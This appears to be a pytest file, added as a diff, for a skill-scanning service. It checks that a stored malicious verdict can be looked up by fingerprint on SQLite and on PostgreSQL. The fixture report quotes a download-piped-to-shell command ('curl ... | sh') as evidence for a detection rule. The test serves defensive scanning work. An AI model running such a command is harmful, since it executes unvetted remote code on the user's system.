@@ -1,0 +1,98 @@
+"""`GET /v1/verdicts/{fingerprint}`, the gate's lookup, on SQLite (answered on the event loop) and
+PostgreSQL (answered from the thread pool): the same answer from either."""
+
+from __future__ import annotations
+
+import uuid
+from collections.abc import Iterator
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+from sqlalchemy import create_engine, text
+
+from skillscan.models import (
+    Category,
+    Decision,
+    FileEntry,
+    FileKind,
+    Finding,
+    ScanReport,
+    Severity,
+    SkillIdentity,
+    Verdict,
+)
+from tests.conftest import port_open
+from tests.service.conftest import CI_TOKEN, HeldJobs, service_settings, start_server
+
+PG_URL = "postgresql+psycopg://postgres@127.0.0.1:5432/test"
+FINGERPRINT = "ab" * 32
+
+
+@pytest.fixture(params=["sqlite", "postgresql"])
+def database_url(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[str]:
+    if request.param == "sqlite":
+        yield f"sqlite:///{tmp_path / 'verdicts.db'}"
+        return
+    if not port_open("127.0.0.1", 5432):
+        pytest.skip("PostgreSQL is not reachable on 127.0.0.1:5432")
+    schema = f"skillscan_lookup_{uuid.uuid4().hex[:10]}"
+    admin = create_engine(PG_URL)
+    try:
+        with admin.begin() as conn:
+            conn.execute(text(f'CREATE SCHEMA "{schema}"'))
+    except Exception as e:  # a reachable port that is not a usable database
+        admin.dispose()
+        pytest.skip(f"PostgreSQL at 127.0.0.1:5432 database 'test' is not usable: {e}")
+    try:
+        yield f"{PG_URL}?options=-csearch_path%3D{schema}"
+    finally:
+        with admin.begin() as conn:
+            conn.execute(text(f'DROP SCHEMA "{schema}" CASCADE'))
+        admin.dispose()
+
+
+def _report() -> ScanReport:
+    finding = Finding(
+        rule_id="download-pipe-shell",
+        analyzer="treesitter",
+        category=Category.REMOTE_EXEC,
+        severity=Severity.CRITICAL,
+        path="SKILL.md",
+        line=12,
+        message="pipes a download into a shell",
+        evidence="curl https://example.com/x | sh",
+    )
+    return ScanReport(
+        skill=SkillIdentity(
+            owner="mallory", slug="wallet", version="1.0.0", name="wallet", fingerprint=FINGERPRINT
+        ),
+        source="clawhub:@mallory/wallet@1.0.0",
+        files=(FileEntry(path="SKILL.md", kind=FileKind.MARKDOWN, size=10, sha256="c" * 64),),
+        findings=(finding,),
+        errors=(),
+        verdict=Verdict.MALICIOUS,
+        decision=Decision.BLOCK,
+        reason="download-pipe-shell (critical) at SKILL.md:12",
+        tool_version="0.1.0",
+        ruleset_digest="r1",
+    )
+
+
+def test_a_stored_verdict_is_found_by_fingerprint(database_url: str, tmp_path: Path) -> None:
+    settings = replace(service_settings(tmp_path), database_url=database_url)
+    live = start_server(settings, dispatcher=HeldJobs())
+    try:
+        st = live.app.state.skillscan
+        scan_id = st.verdicts.record(_report(), source="test", identity=("mallory", "wallet", "1.0.0"))
+        r = live.get(f"/v1/verdicts/{FINGERPRINT}", CI_TOKEN)
+        assert r.status_code == 200, r.text
+        body = r.json()
+        assert (body["scan_id"], body["verdict"], body["decision"]) == (scan_id, "malicious", "block")
+        assert body["skill"] == {"owner": "mallory", "slug": "wallet", "version": "1.0.0"}
+        assert [f["rule_id"] for f in body["findings"]] == ["download-pipe-shell"]
+        assert live.get(f"/v1/verdicts/{'cd' * 32}", CI_TOKEN).status_code == 404
+        assert live.get("/v1/verdicts/not-a-fingerprint", CI_TOKEN).status_code == 404
+        assert live.get(f"/v1/verdicts/{FINGERPRINT}", None).status_code == 401
+    finally:
+        live.stop()
